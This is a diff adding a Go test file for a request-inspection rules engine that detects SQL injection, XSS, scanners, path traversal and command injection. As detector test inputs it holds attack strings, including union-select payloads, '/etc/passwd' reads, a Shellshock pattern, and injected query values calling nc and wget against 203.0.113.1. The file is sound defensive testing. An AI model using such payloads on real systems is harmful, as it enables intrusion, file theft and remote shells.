@@ -0,0 +1,210 @@
+package rules
+
+import (
+	"os"
+	"reflect"
+	"strings"
+	"testing"
+
+	"gopkg.in/yaml.v2"
+)
+
+var testRules = []Rule{
+	{ID: "sqli-1", Category: CategorySQLi, Severity: SeverityHigh, Targets: []string{"uri", "ua"}, Match: `re:\bunion\b(\s+all)?\s+select\b`},
+	{ID: "xss-1", Category: CategoryXSS, Severity: SeverityHigh, Targets: []string{"uri", "referer"}, Match: "<script"},
+	{ID: "scan-1", Category: CategoryScanner, Severity: SeverityMedium, Targets: []string{"ua"}, Match: "sqlmap"},
+	{ID: "bot-1", Category: CategoryCrawler, Severity: SeverityInfo, Targets: []string{"ua"}, Match: "re:googlebot|bingbot"},
+	{ID: "path-1", Category: CategoryLFI, Severity: SeverityCritical, Match: "/etc/passwd"},
+}
+
+func TestEngineMatch(t *testing.T) {
+	engine, err := Compile(testRules)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name     string
+		req      Request
+		expected []string // rule ID + "@" + field
+	}{
+		{"clean", Request{URI: "/about/", UserAgent: "Mozilla/5.0", Referer: "https://example.com/"}, nil},
+		{"uri", Request{URI: "/?id=1 UNION SELECT 1"}, []string{"sqli-1@uri"}},
+		{"ua", Request{URI: "/", UserAgent: "x' union all select 1"}, []string{"sqli-1@ua"}},
+		{"normalised", Request{URI: "/?id=1%20UNION%2F%2A%2A%2FSELECT"}, []string{"sqli-1@uri"}},
+		{"untargeted field ignored", Request{URI: "/", Referer: "/?id=1 union select"}, nil},
+		{"referer", Request{URI: "/", Referer: "/?q=<SCRIPT>"}, []string{"xss-1@referer"}},
+		{"default target is uri", Request{URI: "/x?f=../../etc/passwd", UserAgent: "/etc/passwd"}, []string{"path-1@uri"}},
+		{"several rules", Request{URI: "/?q=<script>", UserAgent: "sqlmap/1.7 Googlebot"}, []string{"xss-1@uri", "scan-1@ua", "bot-1@ua"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, m := range engine.Match(tt.req) {
+				got = append(got, m.Rule.ID+"@"+m.Field)
+			}
+			if !reflect.DeepEqual(got, tt.expected) {
+				t.Errorf("Match(%+v) = %v, want %v", tt.req, got, tt.expected)
+			}
+		})
+	}
+}
+
+func TestEngineMatchesCategory(t *testing.T) {
+	engine, err := Compile(testRules)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req := Request{UserAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)"}
+	if !engine.MatchesCategory(req, CategoryCrawler) {
+		t.Error("expected crawler match")
+	}
+	if engine.MatchesCategory(req, CategoryScanner) {
+		t.Error("unexpected scanner match")
+	}
+
+	var nilEngine *Engine
+	if nilEngine.MatchesCategory(req, CategoryCrawler) || nilEngine.Match(req) != nil {
+		t.Error("nil engine should match nothing")
+	}
+}
+
+func TestMatchDoesNotAllocateWithoutMatches(t *testing.T) {
+	engine, err := Compile(testRules)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req := Request{URI: "/blog/post-1/", UserAgent: "mozilla/5.0", Referer: "https://example.com/"}
+	allocs := testing.AllocsPerRun(100, func() {
+		engine.Match(req)
+	})
+	if allocs != 0 {
+		t.Errorf("Match allocated %.0f times for a clean lowercase request", allocs)
+	}
+}
+
+func TestCompileErrors(t *testing.T) {
+	valid := Rule{ID: "r", Category: "sqli", Severity: SeverityHigh, Match: "x"}
+	tests := []struct {
+		name   string
+		modify func(r *Rule)
+		extra  bool // compile valid twice to get a duplicate
+		errMsg string
+	}{
+		{"missing id", func(r *Rule) { r.ID = "" }, false, "missing id"},
+		{"duplicate id", func(r *Rule) {}, true, "duplicate id"},
+		{"missing category", func(r *Rule) { r.Category = "" }, false, "missing category"},
+		{"unknown severity", func(r *Rule) { r.Severity = "urgent" }, false, "unknown severity"},
+		{"unknown target", func(r *Rule) { r.Targets = []string{"cookie"} }, false, "unknown target"},
+		{"empty regex", func(r *Rule) { r.Match = "re:" }, false, "missing match"},
+		{"invalid regex", func(r *Rule) { r.Match = "re:(" }, false, "invalid pattern"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := valid
+			tt.modify(&r)
+			rules := []Rule{r}
+			if tt.extra {
+				rules = append(rules, valid)
+			}
+			_, err := Compile(rules)
+			if err == nil || !strings.Contains(err.Error(), tt.errMsg) {
+				t.Errorf("Compile() error = %v, want containing %q", err, tt.errMsg)
+			}
+		})
+	}
+}
+
+func TestRequiredLiteralsNeverRejectMatches(t *testing.T) {
+	tests := []struct {
+		pattern string
+		inputs  []string
+	}{
+		{`re:\bunion\b(\s+(all|distinct))?\s+select\b`, []string{"1 union select 2", "union all select", "union distinct select"}},
+		{`re:\b(or|and)\s+['"]?\d+['"]?\s*=\s*['"]?\d+`, []string{"' or 1=1", `and "2"="2"`}},
+		{`re:<\s*(svg|img|body)\b[^>]*\bon\w+\s*=`, []string{"<svg onload=", "< img src=x onerror ="}},
+		{`re:(sleep|benchmark){1,2}\(`, []string{"sleep(", "benchmark("}},
+		{"re:=[^&]*(;|\\||&&|`|\\$\\()\\s*(id|ls)\\b", []string{"=1;id", "=x|ls", "=a&&id", "=`id`", "=$(ls)"}},
+		{`re:\(\s*\)\s*\{[^}]*\}\s*;`, []string{"() { :; };", "(){ :;};"}},
+		{`re:^[^?]*/(error_log|[^/?]+\.log)(\?|$)`, []string{"/wp-content/debug.log", "/error_log?x=1"}},
+	}
+
+	for _, tt := range tests {
+		m, err := compileMatcher(tt.pattern)
+		if err != nil {
+			t.Fatalf("compileMatcher(%q): %v", tt.pattern, err)
+		}
+		if len(m.required) == 0 {
+			t.Errorf("%q: expected required literals", tt.pattern)
+		}
+		for _, in := range tt.inputs {
+			if !m.match(in) {
+				t.Errorf("%q should match %q (required %v)", tt.pattern, in, m.required)
+			}
+		}
+	}
+}
+
+// TestConfigCommandInjectionRule checks cmdi-001 as shipped in config.yaml
+// against shell payloads and ordinary query strings that resemble them.
+func TestConfigCommandInjectionRule(t *testing.T) {
+	data, err := os.ReadFile("../../config.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var cfg struct {
+		Security struct {
+			Rules []Rule `yaml:"rules"`
+		} `yaml:"security"`
+	}
+	if err := yaml.Unmarshal(data, &cfg); err != nil {
+		t.Fatal(err)
+	}
+	var rule []Rule
+	for _, r := range cfg.Security.Rules {
+		if r.ID == "cmdi-001" {
+			rule = append(rule, r)
+		}
+	}
+	engine, err := Compile(rule)
+	if err != nil || len(rule) != 1 {
+		t.Fatalf("Compile(cmdi-001) = %v, found %d rules", err, len(rule))
+	}
+
+	tests := []struct {
+		uri  string
+		want bool
+	}{
+		{"/?ip=127.0.0.1;id", true},
+		{"/?ip=127.0.0.1;%20id", true},
+		{"/?ip=127.0.0.1|id&x=1", true},
+		{"/?ip=127.0.0.1;ls+-la", true},
+		{"/?host=x|sh", true},
+		{"/?host=x;rm%20-rf%20/tmp/x", true},
+		{"/?q=`id`", true},
+		{"/?q=$(ls)", true},
+		{"/?q=x;nc%20203.0.113.1%204444", true},
+		{"/?ip=127.0.0.1;cat%20/etc/passwd", true},
+		{"/?ip=127.0.0.1&&whoami", true},
+		{"/?ip=127.0.0.1|wget%20http://203.0.113.1/x", true},
+		{"/?ip=1;python3%20-c%20x", true},
+
+		{"/?a=1;id=2", false},
+		{"/?x=1&&id=3", false},
+		{"/?x=1&&ls", false},
+		{"/?tag=a|ls-series", false},
+		{"/?q=foo;shop", false},
+		{"/?sort=date;sh.asc", false},
+		{"/?a=1;cat=books", false},
+		{"/?filter=red|echo-dot", false},
+		{"/ls?id=5", false},
+		{"/?page=1&id=2&sh=3", false},
+	}
+	for _, tt := range tests {
+		if got := len(engine.Match(Request{URI: tt.uri})) > 0; got != tt.want {
+			t.Errorf("cmdi-001 match %q = %v, want %v", tt.uri, got, tt.want)
+		}
+	}
+}